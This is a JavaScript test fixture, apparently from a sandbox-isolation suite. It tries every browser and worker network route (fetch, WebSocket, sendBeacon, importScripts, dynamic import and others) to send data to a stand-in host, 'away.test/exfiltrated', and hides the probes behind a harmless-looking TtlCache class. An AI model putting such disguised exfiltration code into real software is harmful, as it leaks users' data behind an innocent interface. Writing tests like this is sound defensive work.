// Attack: asks the network in every way that a worker knows
// Ends: failed
// Says: the code runs without a network
const secret = 'http://away.test/exfiltrated';
const ways = [
  () => globalThis.fetch(secret),
  () => new globalThis.XMLHttpRequest().open('GET', secret),
  () => new globalThis.WebSocket('ws://away.test/exfiltrated'),
  () => new globalThis.EventSource(secret),
  () => new globalThis.WebTransport('https://away.test/exfiltrated'),
  () => new globalThis.RTCPeerConnection(),
  () => globalThis.navigator.sendBeacon(secret),
  () => globalThis.importScripts(secret),
  () => new globalThis.Image(),
  () => new globalThis.FontFace('x', 'url(http://away.test/exfiltrated)').load(),
  () => new globalThis.Worker(secret),
];
const said = ways.map((way) => {
  try {
    return String(way());
  } catch (error) {
    return error.message;
  }
});
// The one way that is syntax: the frame's policy stops it.
import(/* @vite-ignore */ 'http://away.test/exfiltrated').catch(() => {});
import(/* @vite-ignore */ 'data:text/javascript,export default 1').catch(() => {});

export class TtlCache {
  set() {}
  get() {
    return said;
  }
  size() {
    return 0;
  }
}
